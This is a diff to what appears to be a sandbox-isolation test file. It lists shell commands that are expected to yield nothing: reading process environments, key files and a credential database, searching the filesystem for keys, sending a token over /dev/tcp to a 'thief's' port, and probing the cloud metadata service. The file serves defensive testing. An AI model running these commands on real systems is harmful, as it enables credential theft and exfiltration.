@@ -48,10 +48,8 @@ PRINTED: Final = (
 # The command runs, and there is nothing to be had: placeholders are filled from the world.
 FRUITLESS: Final = (
     ("read /proc/1/environ", "cat /proc/1/environ || true"),
-    (
-        "read the Authority's database and key",
-        "cat {trusted}/janee/* {trusted}/data/janee/keys/* || ls -la {trusted} /root /home",
-    ),
+    ("read the Authority's database and key", "cat {trusted}/janee/state.db {trusted}/data/janee/keys/*"),
+    ("look for them in the whole file system", "find / -name state.db -o -name '*.key' -o -name '.janee*' 2>/dev/null | head"),
     ("send it to a port of the thief's", 'exec 3<>/dev/tcp/127.0.0.1/{trap} && echo "$DEMO_TOKEN" >&3'),
     ("ask the Authority itself from inside", "exec 3<>/dev/tcp/127.0.0.1/{authority} && echo connected"),
     ("ask the cloud's metadata service", "timeout 5 bash -c 'exec 3<>/dev/tcp/169.254.169.254/80 && echo connected'"),
